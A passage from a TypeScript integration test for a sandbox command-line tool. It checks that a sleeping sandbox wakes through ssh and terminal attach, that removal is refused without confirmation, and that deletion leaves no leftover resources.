    expect(sshes).toEqual([1, 2, 3].map((i) => ({ code: 0, stdout: `woken ${i}\n`, stderr: "" })));
    expect(await wakeStarts()).toBe(startsBefore + 1);
    expect((await sbx(alice, repo, ["status", "--json"])).json()).toMatchObject({ status: "running" });
    // Asleep again: sbx attach wakes it through the terminal, and its shell answers.
    await sleep();
    // Its notes (standard error) to a file: the terminal's redraw covers them on the screen.
    const notes = path.join(alice, "attach-notes");
    await tmux.open("W", `XDG_CONFIG_HOME=${alice} ${SBX} attach 2>${notes}`, repo);
    await tmux.waitFor("W", /agent@[^\n]*\$\s*$/m, 60_000);
    expect(await fs.readFile(notes, "utf8")).toMatch(
      /^\[sbx\] the sandbox is asleep: waking it\n\[sbx\] attached to main;/,
    );
    await tmux.send("W", "echo attached-after-sleep", "Enter");
    await tmux.waitFor("W", /^attached-after-sleep$/m);
    expect(await wakeStarts()).toBe(startsBefore + 2);
    const refused = await sbx(alice, repo, ["rm"]);
    expect(refused.code).toBe(2);
    const removed = await sbx(alice, repo, ["rm", "--yes", "--json"]);
    expect(removed.code, removed.stderr).toBe(0);
    expect(await projects("alice")).toEqual([]);
    expect(await tenantLeftovers(platform.config.host, projectId)).toEqual([]);
  });
});
